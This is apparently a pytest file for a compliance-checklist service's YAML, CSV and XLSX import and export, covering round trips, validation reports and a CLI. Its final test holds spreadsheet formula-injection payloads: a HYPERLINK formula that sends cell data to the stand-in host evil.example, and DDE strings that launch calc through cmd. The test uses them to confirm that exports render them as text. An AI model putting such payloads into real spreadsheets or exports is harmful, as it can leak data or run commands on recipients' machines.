"""Import/export of the guidance checklist (YAML, CSV, XLSX): every row validated first, all or
nothing, a report naming each bad row and field; exports read back unchanged; the CLI."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import yaml
from openpyxl import load_workbook
from sqlalchemy import func, select

from services.checklist.guidance import importing
from services.checklist.models import GuidanceItem

API = "/checklist/v1"


async def _versions(stack) -> int:
    async with stack.runtimes["checklist"].sessionmaker() as s:
        return await s.scalar(select(func.count()).select_from(GuidanceItem))


def _csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def _csv(rows: list[dict]) -> bytes:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=importing.COLUMNS)
    w.writeheader()
    w.writerows(rows)
    return buf.getvalue().encode("utf-8")


async def test_export_import_round_trip_and_revisions(stack):
    c = stack.client
    admin = stack.auth("admin-1", "admin")
    exports = {}
    for fmt in importing.FORMATS:
        r = await c.get(f"{API}/exports/guidance-items", params={"format": fmt}, headers=admin)
        assert r.status_code == 200 and r.headers["content-type"].startswith(importing.MEDIA_TYPES[fmt].split(";")[0])
        exports[fmt] = r.content
    assert len(yaml.safe_load(exports["yaml"])["items"]) == 35
    wb = load_workbook(io.BytesIO(exports["xlsx"]))
    assert wb.active.max_row == 36 and wb.active["E2"].value  # header + 35 items, Chinese titles
    rows = _csv_rows(exports["csv"])
    assert len(rows) == 35 and all(json.loads(r["legal_basis"]) for r in rows)

    # every export reads back as "unchanged": the round trip is lossless
    before = await _versions(stack)
    for fmt, data in exports.items():
        r = await c.post(f"{API}/imports/guidance-items", params={"format": fmt}, content=data, headers=admin)
        assert r.status_code == 200, (fmt, r.text)
        assert (len(r.json()["unchanged"]), r.json()["created"], r.json()["revised"]) == (35, [], []), fmt
    assert await _versions(stack) == before

    # a changed row becomes a new version, a new row version 1 (dry run first: nothing written)
    rows[0]["title"] = rows[0]["title"] + "（修订）"
    new = dict(rows[1]) | {"code": "GI-IMP-001", "title": "导入的新事项", "batch": "第一批"}
    data = _csv([*rows, new])
    r = await c.post(f"{API}/imports/guidance-items", params={"format": "csv", "dry_run": True}, content=data,
                     headers=admin)
    assert r.status_code == 200 and r.json()["applied"] is False
    assert (r.json()["revised"], r.json()["created"]) == ([rows[0]["code"]], ["GI-IMP-001"])
    assert await _versions(stack) == before
    r = await c.post(f"{API}/imports/guidance-items", params={"format": "csv"}, content=data, headers=admin)
    assert r.status_code == 200 and r.json()["applied"] is True
    assert await _versions(stack) == before + 2
    r = await c.get(f"{API}/guidance-items/{rows[0]['code']}", headers=admin)
    assert r.json()["version"] == 2 and r.json()["title"].endswith("（修订）")
    r = await c.get(f"{API}/guidance-items", params={"q": "导入的新"}, headers=admin)
    assert [i["code"] for i in r.json()["items"]] == ["GI-IMP-001"]


async def test_bad_rows_are_all_reported_and_nothing_is_loaded(stack):
    c = stack.client
    admin = stack.auth("admin-1", "admin")
    r = await c.get(f"{API}/exports/guidance-items", params={"format": "csv"}, headers=admin)
    rows = _csv_rows(r.content)
    good_new = dict(rows[2]) | {"code": "GI-IMP-002"}
    rows[0]["legal_basis"] = json.dumps([{"role": "penalty", "law": "某法", "article": "九十九"}], ensure_ascii=False)
    rows[1]["risk_level"] = "severe"
    rows[3]["fine"] = "{not json"
    rows[4]["code"] = rows[5]["code"]
    before = await _versions(stack)
    r = await c.post(f"{API}/imports/guidance-items", params={"format": "csv"}, content=_csv([*rows, good_new]),
                     headers=admin)
    assert r.status_code == 422 and r.json()["code"] == "import_rejected"
    errors = {(e["row"], e["field"]) for e in r.json()["errors"]}
    # the sheet's row numbers (header = row 1); the duplicate is reported on its second occurrence
    assert {(2, "legal_basis.0.article"), (3, "risk_level"), (5, "fine"), (7, "code")} <= errors
    assert await _versions(stack) == before
    assert (await c.get(f"{API}/guidance-items/GI-IMP-002", headers=admin)).status_code == 404

    # XLSX: a bad row named by its sheet row
    r = await c.get(f"{API}/exports/guidance-items", params={"format": "xlsx"}, headers=admin)
    wb = load_workbook(io.BytesIO(r.content))
    col = importing.COLUMNS.index("title") + 1
    wb.active.cell(row=4, column=col, value="")
    buf = io.BytesIO()
    wb.save(buf)
    r = await c.post(f"{API}/imports/guidance-items", params={"format": "xlsx"}, content=buf.getvalue(), headers=admin)
    assert r.status_code == 422 and [(e["row"], e["field"]) for e in r.json()["errors"]] == [(4, "title")]
    # unreadable files and roles
    r = await c.post(f"{API}/imports/guidance-items", params={"format": "xlsx"}, content=b"not a workbook",
                     headers=admin)
    assert r.status_code == 422 and r.json()["code"] == "unreadable_file"
    r = await c.post(f"{API}/imports/guidance-items", params={"format": "csv"}, content=b"a,b\n1,2\n", headers=admin)
    assert r.status_code == 422 and "missing columns" in r.json()["detail"]
    officer = stack.auth("officer-1", "officer", bureau="320509")
    r = await c.post(f"{API}/imports/guidance-items", params={"format": "csv"}, content=b"x", headers=officer)
    assert r.status_code == 403
    assert await _versions(stack) == before


def test_cli_import_dry_run_and_export(tmp_path):
    exe = Path(sys.executable).parent / "ecocomply"
    data_dir = tmp_path / "var"
    out = tmp_path / "items.xlsx"
    r = subprocess.run([str(exe), "checklist", "export", str(out), "--data-dir", str(data_dir)],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    assert load_workbook(out).active.max_row == 36
    wb = load_workbook(out)
    wb.active.cell(row=2, column=importing.COLUMNS.index("title") + 1, value="通过命令行修订的标题")
    wb.save(out)
    r = subprocess.run([str(exe), "checklist", "import", str(out), "--dry-run", "--data-dir", str(data_dir)],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    assert "revised 1" in r.stdout and "dry run" in r.stdout
    bad = tmp_path / "bad.csv"
    bad.write_text("code,title\nX,\n", encoding="utf-8")
    r = subprocess.run([str(exe), "checklist", "import", str(bad), "--data-dir", str(data_dir)],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 1 and "missing columns" in r.stderr


# Issue 25 S8: a cell that begins with =, +, -, @ is a formula to a spreadsheet program (OWASP CSV injection).
FORMULAS = {"title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "advice": "@SUM(1+1)*cmd|' /C calc'!A0",
            "risk_rationale": "+1+cmd|' /C calc'!A0"}


async def test_exports_never_hand_a_spreadsheet_a_formula(stack):
    c = stack.client
    admin = stack.auth("admin-1", "admin")
    r = await c.get(f"{API}/exports/guidance-items", params={"format": "csv"}, headers=admin)
    rows = _csv_rows(r.content)
    hostile = dict(rows[0]) | {"code": "GI-IMP-XSS"} | FORMULAS
    r = await c.post(f"{API}/imports/guidance-items", params={"format": "csv"}, content=_csv([*rows, hostile]),
                     headers=admin)
    assert r.status_code == 200 and r.json()["created"] == ["GI-IMP-XSS"], r.text
    item = (await c.get(f"{API}/guidance-items/GI-IMP-XSS", headers=admin)).json()
    assert item["title"] == FORMULAS["title"]  # stored as the person typed it

    r = await c.get(f"{API}/exports/guidance-items", params={"format": "csv"}, headers=admin)
    exported = next(x for x in _csv_rows(r.content) if x["code"] == "GI-IMP-XSS")
    for field, text in FORMULAS.items():  # the apostrophe makes the cell text in a spreadsheet program
        assert exported[field] == "'" + text, (field, exported[field])
    r = await c.post(f"{API}/imports/guidance-items", params={"format": "csv"}, content=r.content, headers=admin)
    assert r.status_code == 200 and "GI-IMP-XSS" in r.json()["unchanged"], r.text  # and reads back unchanged

    r = await c.get(f"{API}/exports/guidance-items", params={"format": "xlsx"}, headers=admin)
    ws = load_workbook(io.BytesIO(r.content)).active
    header = [cell.value for cell in ws[1]]
    row = next(line for line in ws.iter_rows(min_row=2) if line[header.index("code")].value == "GI-IMP-XSS")
    for field, text in FORMULAS.items():
        cell = row[header.index(field)]
        assert (cell.value, cell.data_type) == (text, "s"), (field, cell.value, cell.data_type)  # text, not a formula
    r = await c.post(f"{API}/imports/guidance-items", params={"format": "xlsx"}, content=r.content, headers=admin)
    assert r.status_code == 200 and "GI-IMP-XSS" in r.json()["unchanged"], r.text
